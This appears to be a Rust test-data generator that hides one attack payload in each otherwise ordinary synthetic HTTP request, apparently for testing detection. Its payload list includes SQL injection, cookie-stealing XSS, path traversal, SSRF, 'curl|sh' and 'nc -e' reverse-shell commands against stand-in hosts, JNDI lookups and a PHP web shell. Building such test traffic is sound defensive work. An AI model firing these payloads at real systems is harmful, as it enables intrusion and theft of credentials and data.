//! Ordinary requests with one attack in each.

use super::benign::{draft, form, json};
use super::words::{key, word};
use bartizan_peers::agreement::Call;
use bartizan_peers::random::Random;
use bartizan_peers::value::{Text, Value, text};

/// `~` stands for a word and `#` for a number, so that no two are alike.
const PAYLOADS: [&str; 60] = [
    "#' or '#'='#",
    "~' union select null,username,password from users -- ",
    "# or sleep(#)#",
    "#; drop table ~;--",
    "~') and extractvalue(#,concat(0x7e,version()))-- ",
    "' or 1=1 limit 1 offset #/*",
    "admin'--",
    "#/**/union/**/all/**/select/**/#,#,@@version",
    "<script>alert(#)</script>",
    "\"><img src=x onerror=alert('~')>",
    "<svg/onload=fetch('//~.example/'+document.cookie)>",
    "javascript:alert(#)//",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
    "<a href=\"java\tscript:alert(#)\">~</a>",
    "%3Cscript%3Ealert(#)%3C/script%3E",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fshadow",
    "/var/www/../../proc/self/environ",
    "..\\..\\windows\\win.ini",
    "file:///etc/hosts",
    "php://filter/convert.base64-encode/resource=~",
    "http://169.254.169.254/latest/meta-data/iam/",
    "http://127.0.0.1:#/admin",
    "http://[::ffff:7f00:1]/~",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "; cat /etc/passwd",
    "$(curl http://~.example/x|sh)",
    "`id`",
    "| nc -e /bin/sh 10.0.0.# 4444",
    "~ && wget http://~.example/~.sh -O- | sh",
    "() { :;}; /bin/bash -c 'id'",
    "${jndi:ldap://~.example/a}",
    "${${lower:j}ndi:rmi://~.example:#/x}",
    "{{7*7}}{{config.items()}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<%= `ls #` %>",
    "#{7*#}",
    "<?php system($_GET['~']); ?>",
    "O:8:\"stdClass\":1:{s:4:\"~\";s:2:\"id\";}",
    "eval(base64_decode('aWQ='))",
    "assert($_POST['~'])",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
    "java.lang.ProcessBuilder",
    "require('child_process').exec('id')",
    "__proto__[~]=#",
    "constructor.constructor('return process')()",
    "*)(uid=*))(|(uid=*",
    "' or count(/*)=# or '~'='",
    "<!DOCTYPE ~ [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><~>&x;</~>",
    "~\r\nSet-Cookie: admin=#",
    "{\"$gt\":\"\"}",
    "this.password.match(/.*/)",
    "/.git/config",
    "/wp-config.php.bak",
    "/.env",
    "/actuator/heapdump",
    "=cmd|' /C calc'!A0",
    "\\u003cscript\\u003ealert(#)\\u003c/script\\u003e",
    "&lt;script&gt;alert(#)&lt;/script&gt;",
    "x' AND 1=CONVERT(int,(SELECT @@version))-- ~",
];

const SCANNERS: [&str; 8] = [
    "sqlmap/1.8.4#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Arachni/v1.6.1.3",
    "dd-test-scanner-log",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
];

pub(super) fn payload(random: &mut Random) -> String {
    let mut out = String::new();
    for c in random.choose(&PAYLOADS).chars() {
        match c {
            '~' => out.push_str(word(random)),
            '#' => out.push_str(&random.between(1, 99).to_string()),
            c => out.push(c),
        }
    }
    if random.chance(15) {
        out = out
            .chars()
            .map(|c| if c.is_ascii_lowercase() && random.chance(40) { c.to_ascii_uppercase() } else { c })
            .collect();
    }
    out
}

pub(super) fn request(random: &mut Random) -> Vec<Call> {
    let mut draft = draft(random);
    let payload = payload(random);
    match random.below(12) {
        0..=3 => draft.query.push((key(random).to_owned(), payload)),
        4..=7 => {
            draft.method = "POST";
            let mut body = if random.chance(50) { json(random, 1) } else { form(random) };
            if let Value::Map(entries) = &mut body {
                let at = random.below(entries.len() + 1);
                entries.insert(at, (Text::new(key(random)), text(payload)));
            }
            draft.body = Some(body);
        }
        8 => draft.params.push((key(random).to_owned(), payload)),
        9 => draft.path = format!("/{}", payload.trim_start_matches('/')),
        10 => {
            let agent = random.choose(&SCANNERS);
            if let Some(held) = draft.headers.iter_mut().find(|(name, _)| name == "user-agent") {
                held.1 = agent.to_owned();
            }
            draft.status = "404";
        }
        _ => {
            let name = random.choose(&["x-api-version", "referer", "x-filename"]);
            draft.headers.retain(|(held, _)| held != name);
            draft.headers.push((name.to_owned(), payload));
        }
    }
    draft.calls(random)
}
